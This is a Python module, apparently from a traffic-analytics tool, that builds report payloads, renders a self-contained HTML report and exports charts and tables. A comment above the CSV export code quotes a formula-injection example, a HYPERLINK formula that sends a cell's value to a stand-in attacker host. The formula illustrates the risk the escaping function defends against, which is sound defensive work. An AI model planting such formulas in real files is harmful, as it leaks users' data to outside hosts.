"""The report payload, the self-contained HTML file, and the PNG/SVG/CSV exports.

A *payload* is the JSON document both front ends draw: the offline report file
inlines it, and the dashboard fetches it from ``GET /v1/report``. One script,
``api/static/prism.js``, renders it in both, with the Vega, Vega-Lite and
Vega-Embed bundle from vl-convert (generated here on first use and cached for
the life of the process, so no JavaScript blob is committed and its version
always matches the installed vl-convert and Altair).
"""

from __future__ import annotations

import html
import json
import re
from collections.abc import Iterable, Sequence
from datetime import UTC, datetime
from functools import lru_cache
from pathlib import Path
from typing import Any

from classifier.errors import TooManyBucketsError
from traffic.analysis import (
    ReportData,
    build_report_data,
    build_report_from_aggregates,
    category_name,
    count_buckets,
    language_name,
    rows_frame,
    store_aggregates,
)
from traffic.charts import Section, sections
from traffic.store import EARLIEST_TS, LATEST_TS
from traffic.timeutil import as_utc, iso, time_buckets

STATIC_DIR = Path(__file__).resolve().parent / "static"
EXPORT_FORMATS = ("png", "svg", "csv")
PNG_SCALE = 2
_MARKER = re.compile(r"/\*PRISM:(\w+)\*/|<!--PRISM:(\w+)-->")


def static_text(name: str) -> str:
    """A file of ``traffic/static`` (the report's template, script and style) as text."""
    return (STATIC_DIR / name).read_text(encoding="utf-8")


@lru_cache(maxsize=1)
def vega_lite_version() -> str | None:
    """The Vega-Lite version matching Altair's schema, when vl-convert has it (else vl-convert's newest)."""
    import altair as alt
    import vl_convert

    wanted = ".".join(alt.SCHEMA_VERSION.lstrip("v").split(".")[:2])
    return wanted if wanted in vl_convert.get_vegalite_versions() else None


@lru_cache(maxsize=1)
def vega_bundle() -> str:
    """Vega, Vega-Lite and Vega-Embed as one script that needs no network (about 0.9 MB; ~1 s to build)."""
    import vl_convert

    # The stub marks ``snippet`` required; at run time it defaults to "expose vegaEmbed, vega and vegaLite".
    return str(vl_convert.javascript_bundle(vl_version=vega_lite_version()))  # type: ignore[call-arg]


def _names(data: ReportData) -> dict[str, dict[str, str]]:
    categories = set(data.category_order)
    for table in data.tables.values():
        for column in table.columns:
            if column.format == "category":
                categories.update(str(v) for v in table.frame[column.key].dropna().unique())
    languages = data.tables["language_mix"].frame["language"]
    return {
        "category": {c: category_name(c) for c in sorted(categories)},
        "language": {str(code): language_name(str(code)) for code in languages},
    }


def build_payload(
    data: ReportData,
    report_sections: Sequence[Section],
    title: str,
    notes: Iterable[str] = (),
    weight: str | None = None,
    since: datetime | None = None,
    until: datetime | None = None,
) -> dict[str, Any]:
    """The JSON document that ``prism.js`` draws: totals, findings, notes, sections with chart specs, tables."""
    return {
        "title": title,
        "generated_at": iso(datetime.now(UTC)),
        "bucket": data.bucket,
        "weight": weight,
        "range": {"start": iso(data.start), "end": iso(data.end), "since": iso(since), "until": iso(until)},
        "empty": data.empty,
        "totals": data.totals,
        "findings": data.findings,
        "notes": list(notes),
        "names": _names(data),
        "sections": [
            {
                "id": section.id,
                "title": section.title,
                "description": section.description,
                "charts": [{"id": chart.id, "title": chart.title, "spec": chart.spec} for chart in section.charts],
                "tables": section.tables,
            }
            for section in report_sections
        ],
        "tables": {
            name: {
                "title": table.title,
                "columns": [{"key": c.key, "label": c.label, "format": c.format} for c in table.columns],
                "rows": table.json_rows(),
            }
            for name, table in data.tables.items()
        },
    }


def report_sections(data: ReportData) -> list[Section]:
    """The report file's sections: category mix by requests and by tokens, model heatmap by tokens."""
    return sections(data, ("requests", "tokens"), heatmap_weight="tokens", language_weight="requests")


def dashboard_payload(
    rows: Iterable[dict[str, Any]],
    bucket: str,
    weight: str,
    since: datetime | None = None,
    until: datetime | None = None,
    max_buckets: int = 1000,
) -> dict[str, Any]:
    """The dashboard's payload over report rows: every chart, with the one weight the user picked."""
    frame = rows_frame(rows)
    check_bucket_count(count_buckets(frame, bucket), bucket, max_buckets)
    return dashboard_payload_of(build_report_data(frame, bucket), weight, since, until)


def check_bucket_count(buckets: int, bucket: str, max_buckets: int) -> None:
    """:class:`TooManyBucketsError` when the range holds more buckets than a chart shows."""
    if buckets > max_buckets:
        raise TooManyBucketsError(
            f"the range holds {buckets} {bucket}s; a chart shows at most {max_buckets}: "
            "choose a coarser bucket or a shorter range"
        )


def store_dashboard_payload(
    store: Any,
    bucket: str,
    weight: str,
    since: datetime | None = None,
    until: datetime | None = None,
    max_buckets: int = 1000,
) -> dict[str, Any]:
    """The dashboard's payload over an event store (:class:`traffic.store.EventStore`), aggregated in SQL.

    The database groups the events; only the grouped counts (bounded by buckets, categories, models and
    distinct token counts, not by events) reach Python.
    """
    # The chart draws every bucket from the first event's to the last one's: counted before aggregating, so
    # that a range too long for its bucket is refused at once (an hourly 90 days at 1M events took ~4 s).
    low, high = since, until
    first, last = store.time_span(low, high)
    if first is not None and (first < EARLIEST_TS or last >= LATEST_TS):
        # Events an older version stored with times pandas cannot draw (year 760...) are left out.
        low = max(as_utc(since), EARLIEST_TS) if since is not None else EARLIEST_TS
        high = min(as_utc(until), LATEST_TS) if until is not None else LATEST_TS
        first, last = store.time_span(low, high)
    if first is not None:
        key = f"ts_{bucket}"
        check_bucket_count(time_buckets(last)[key] - time_buckets(first)[key] + 1, bucket, max_buckets)
    aggregates = store.report_aggregates(bucket, low, high)
    data = build_report_from_aggregates(store_aggregates(aggregates, bucket), bucket)
    return dashboard_payload_of(data, weight, since, until)


def dashboard_payload_of(
    data: ReportData, weight: str, since: datetime | None = None, until: datetime | None = None
) -> dict[str, Any]:
    """The dashboard's payload of computed report data, with the one weight the user picked."""
    chosen = [] if data.empty else sections(data, (weight,), heatmap_weight=weight, language_weight=weight)
    return build_payload(data, chosen, "PromptPrism live traffic", weight=weight, since=since, until=until)


def _inline_script(code: str) -> str:
    # An inline <script> ends at the first "</script"; JavaScript reads "<\/" as "</".
    return re.sub(r"</(script)", r"<\\/\1", code, flags=re.IGNORECASE)


def render_html(payload: dict[str, Any]) -> str:
    """One HTML file with the styles, the Vega bundle, the renderer and the payload inlined: it opens offline."""
    data = json.dumps(payload, ensure_ascii=False, separators=(",", ":"), allow_nan=False)
    # "<" escaped keeps any text in the data from closing the script element.
    data = data.replace("<", "\\u003c")
    parts = {
        "TITLE": html.escape(payload["title"]),
        "CSS": static_text("prism.css"),
        "VEGA": _inline_script(vega_bundle()),
        "APP": _inline_script(static_text("prism.js")),
        "PAYLOAD": data,
    }
    template = static_text("report.html")
    return _MARKER.sub(lambda m: parts[m.group(1) or m.group(2)], template)


# A cell a spreadsheet would read as a formula (OWASP's list): an app or model name such as
# '=HYPERLINK("http://evil.example?"&A1)' in recorded traffic would otherwise run when the CSV is opened.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def formula_safe(frame: Any) -> Any:
    """A copy of ``frame`` whose text cells that start like a formula are prefixed with ``'`` (shown as text)."""
    frame = frame.copy()
    for column in frame.columns:
        if frame[column].dtype.kind not in "biufcmM":  # text (object or pandas string), not numbers or times
            frame[column] = frame[column].map(
                lambda v: "'" + v if isinstance(v, str) and v.startswith(_FORMULA_START) else v
            )
    return frame


def export_files(
    data: ReportData, report_sections: Sequence[Section], directory: Path, formats: Iterable[str]
) -> list[Path]:
    """Write each chart as PNG and/or SVG and each table as CSV into ``directory``; return the paths written."""
    import vl_convert

    wanted = set(formats)
    unknown = wanted - set(EXPORT_FORMATS)
    if unknown:
        raise ValueError(f"unknown export format(s) {sorted(unknown)}; choose from {', '.join(EXPORT_FORMATS)}")
    directory.mkdir(parents=True, exist_ok=True)
    written: list[Path] = []
    if "csv" in wanted:
        for table in data.tables.values():
            path = directory / f"{table.name}.csv"
            formula_safe(table.csv_frame()).to_csv(path, index=False)
            written.append(path)
    version = vega_lite_version()
    for section in report_sections:
        for chart in section.charts:
            if "svg" in wanted:
                path = directory / f"{chart.id}.svg"
                path.write_text(vl_convert.vegalite_to_svg(chart.spec, vl_version=version), encoding="utf-8")
                written.append(path)
            if "png" in wanted:
                path = directory / f"{chart.id}.png"
                path.write_bytes(vl_convert.vegalite_to_png(chart.spec, vl_version=version, scale=PNG_SCALE))
                written.append(path)
    return written
